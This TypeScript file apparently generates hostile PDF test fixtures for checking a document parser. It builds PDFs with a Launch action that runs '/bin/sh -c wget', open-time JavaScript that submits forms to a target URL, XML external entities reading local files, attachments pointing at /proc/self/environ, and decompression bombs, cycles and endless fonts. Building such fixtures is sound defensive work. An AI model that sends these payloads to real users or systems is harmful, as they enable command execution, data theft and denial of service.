/** PDFs with scripts, external references, cycles and bombs. */
import { deflateSync } from 'node:zlib'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

type Part = string | Buffer

/** Objects by number from 1; the first is the catalog. */
export function writePdf(objects: readonly Part[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  let offset = 9
  const offsets = objects.map((content, index) => {
    const written = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(content),
      Buffer.from('\nendobj\n'),
    ])
    parts.push(written)
    offset += written.length
    return offset - written.length
  })
  const table = offsets.map(at => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(end)])
}

export function pdfStream(content: Part, entries = ''): Buffer {
  const body = Buffer.from(content)
  return Buffer.concat([
    Buffer.from(`<< /Length ${body.length} ${entries} >>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ])
}

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
export const words = 'BT /F1 18 Tf 20 100 Td (Visible words) Tj ET'

interface OnePage {
  readonly catalog?: string
  readonly page?: string
  readonly resources?: string
  readonly content?: Part
  readonly contentEntries?: string
  /** From object 6 on. */
  readonly more?: readonly Part[]
}

export function onePage({
  catalog = '',
  page = '',
  resources = '',
  content = words,
  contentEntries = '',
  more = [],
}: OnePage): Buffer {
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> ${resources} >> /Contents 4 0 R ${page} >>`,
    pdfStream(content, contentEntries),
    font,
    ...more,
  ])
}

export function pdfsWithExternalReferences({
  http,
  text,
  image: imagePath,
  unixSocket,
}: Targets): HostileFile[] {
  const pdf = (what: string, page: OnePage) => hostile('external', what, 'paper.pdf', onePage(page))
  const outside = (target: string) => `<< /Type /Filespec /FS /URL /F (${target}) >>`
  const image = (target: string) =>
    pdfStream(
      '',
      `/Type /XObject /Subtype /Image /Width 320 /Height 160 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F ${target} /FFilter /FlateDecode`,
    )
  return [
    pdf('pdf: an image in an external file', {
      resources: '/XObject << /A 6 0 R /B 7 0 R >>',
      content: `${words} q 300 0 0 200 0 0 cm /A Do /B Do Q`,
      more: [image(`(${imagePath})`), image(outside(`${http}/a.png`))],
    }),
    pdf('pdf: pages of another document', {
      resources: '/XObject << /A 6 0 R >>',
      content: `${words} /A Do`,
      more: [
        pdfStream('', `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Ref << /F (${text}) /Page 0 >>`),
      ],
    }),
    pdf('pdf: content in an external file', { content: '', contentEntries: `/F (${text})` }),
    pdf('pdf: actions of every kind', {
      catalog: `/OpenAction << /S /Launch /F (/bin/sh) /P (-c wget ${http}/l) >> /AA << /WC << /S /URI /URI (${http}/aa) >> >>`,
      page: `/AA << /O << /S /GoToR /F (${text}) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /SubmitForm /F ${outside(`${http}/form`)} >> >> << /Type /Annot /Subtype /Link /Rect [0 0 90 90] /A << /S /URI /URI (file://${text}) >> >> << /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (${http}/m.mov) >> >> << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>]`,
    }),
    pdf('pdf: XFA forms with entities and URLs', {
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] /NeedAppearances true >>',
      more: [
        pdfStream(
          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}"><!ENTITY y SYSTEM "${http}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform><field><value><image href="${http}/i.png"/><text>&x;&y;</text></value></field></subform></template></xdp:xdp>`,
        ),
      ],
    }),
    pdf('pdf: a socket and the environment as attachments', {
      page: `/AF [<< /Type /Filespec /F (${unixSocket}) >> << /Type /Filespec /F (/proc/self/environ) >>]`,
      catalog: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${text}) >>] >> >>`,
    }),
    hostile(
      'script',
      'pdf: scripts that run on opening',
      'paper.pdf',
      onePage({
        catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${http}/js"\\); this.submitForm\\("${http}/f"\\);) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>`,
      }),
    ),
  ]
}

export function pdfBombs(): HostileFile[] {
  const pdf = (what: string, content: Buffer) => hostile('bomb', what, 'paper.pdf', content)
  const form = (inner: string, resources: string) =>
    pdfStream(
      inner,
      `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << ${resources} >> >>`,
    )
  const doubling = Array.from({ length: 24 }, (_, n) => form('/X Do /X Do', `/X ${n + 7} 0 R`))
  const deep = '['.repeat(60_000)
  const flate = '/Filter /FlateDecode'
  const bombs = deflateSync(deflateSync(Buffer.alloc(128 * 1024 * 1024)))
  return [
    pdf(
      'pdf: a cycle in the page tree',
      writePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
      ]),
    ),
    pdf(
      'pdf: declares a million pages',
      writePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      ]),
    ),
    pdf(
      'pdf: an object that references itself',
      writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '2 0 R', '3 0 R']),
    ),
    pdf(
      'pdf: a form that draws itself',
      onePage({
        resources: '/XObject << /X 6 0 R >>',
        content: `${words} /X Do`,
        more: [form('/X Do', '/X 6 0 R')],
      }),
    ),
    pdf(
      'pdf: forms that double 24 times',
      onePage({
        resources: '/XObject << /X 6 0 R >>',
        content: '/X Do',
        more: [...doubling, form(words, '')],
      }),
    ),
    pdf(
      'pdf: content that is a nested decompression bomb',
      onePage({ content: bombs, contentEntries: '/Filter [/FlateDecode /FlateDecode]' }),
    ),
    pdf(
      'pdf: an image of 100000 by 100000',
      onePage({
        resources: '/XObject << /X 6 0 R >>',
        content: 'q 300 0 0 200 0 0 cm /X Do Q',
        more: [
          pdfStream(
            deflateSync(Buffer.alloc(1_000_000)),
            `/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 ${flate}`,
          ),
        ],
      }),
    ),
    pdf('pdf: deeply nested arrays', onePage({ page: `/X ${deep}` })),
    pdf(
      'pdf: a page of 9000000 points',
      writePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9000000 9000000] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
        pdfStream(words),
        font,
      ]),
    ),
    pdf(
      'pdf: a hundred thousand lines',
      onePage({
        content: deflateSync(Buffer.from('0 0 m 300 200 l S\n'.repeat(100_000))),
        contentEntries: flate,
      }),
    ),
    pdf(
      'pdf: a cross-reference table that points to itself',
      Buffer.concat([
        onePage({}).subarray(0, -40),
        Buffer.from('trailer\n<< /Size 6 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
      ]),
    ),
    pdf(
      'pdf: recursive patterns',
      onePage({
        resources: '/Pattern << /P 6 0 R >>',
        content: '/Pattern cs /P scn 0 0 300 200 re f',
        more: [
          pdfStream(
            '/Pattern cs /P scn 0 0 1 1 re f',
            '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 6 0 R >> >>',
          ),
        ],
      }),
    ),
    pdf(
      'pdf: a corrupt font',
      onePage({
        resources: '/Font << /F1 6 0 R >>',
        more: [
          '<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 /Widths 9 0 R /FontDescriptor 7 0 R >>',
          '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>',
          pdfStream(hostileFont(), flate),
          '[]',
        ],
      }),
    ),
    pdf(
      'pdf: a Type 3 font that draws itself',
      onePage({
        resources: '/Font << /F1 6 0 R >>',
        more: [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 86 /LastChar 86 /Widths [1] /Encoding << /Differences [86 /V] >> /CharProcs << /V 7 0 R >> /Resources << /Font << /F1 6 0 R >> >> >>',
          pdfStream('1 0 d0 BT /F1 1 Tf (V) Tj ET'),
        ],
      }),
    ),
    pdf(
      'pdf: an endless function',
      onePage({
        resources: '/ColorSpace << /C [/Separation /A /DeviceRGB 6 0 R] >>',
        content: '/C cs 1 scn 0 0 300 200 re f',
        more: [
          pdfStream(`{ ${'dup '.repeat(100_000)} }`, '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]'),
        ],
      }),
    ),
  ]
}

/** A TrueType font whose tables overlap or lie outside of the file, with an endless program. */
function hostileFont(): Buffer {
  const names = ['head', 'maxp', 'loca', 'glyf', 'fpgm', 'prep', 'cvt ', 'hmtx', 'hhea', 'cmap']
  const head = Buffer.alloc(12 + names.length * 16 + 64, 0xb0)
  head.writeUInt32BE(0x00010000, 0)
  head.writeUInt16BE(names.length, 4)
  for (const [index, name] of names.entries()) {
    const at = 12 + index * 16
    head.write(name, at, 'latin1')
    head.writeUInt32BE(index % 2 === 0 ? 172 : 0x7ffffff0, at + 8)
    head.writeUInt32BE(0x7fffffff, at + 12)
  }
  return deflateSync(head)
}
